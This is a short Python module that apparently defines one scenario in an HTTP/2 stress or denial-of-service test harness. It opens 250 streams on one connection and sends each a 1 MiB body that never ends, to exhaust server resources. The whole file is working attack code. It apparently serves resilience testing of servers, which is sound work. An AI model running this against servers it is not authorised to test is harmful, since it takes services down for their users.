"""A stranger over HTTP/2 whose bodies never end."""

import asyncio

from aim import Aim, Attack
from http2_frames_kit import DATA, OPENING, frame, head
from stage import ENCRYPTED

MIB = 2**20


async def unfinished(aim: Aim) -> None:
    """250 streams of one connection, each with a body of 1 MiB that lacks its last bytes."""
    piece = b"x" * 16_000

    async def one() -> None:
        reader, writer = await aim.open("h2")
        writer.write(OPENING)
        swallowing = asyncio.create_task(_swallow(reader))
        streams = range(1, 501, 2)
        writer.writelines(head(stream) for stream in streams)
        try:
            for _ in range(MIB // len(piece)):
                for stream in streams:
                    writer.write(frame(DATA, 0, stream, piece))
                    await writer.drain()
                    aim.tally["pieces"] += 1
            await asyncio.sleep(5.0)
        finally:
            swallowing.cancel()
            writer.transport.abort()

    await aim.crowd(1, one)


async def _swallow(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


UNFINISHED = Attack(
    "HTTP/2: unfinished bodies",
    "A stranger begins 250 bodies of 1 MiB on one connection.",
    unfinished,
    ENCRYPTED,
)
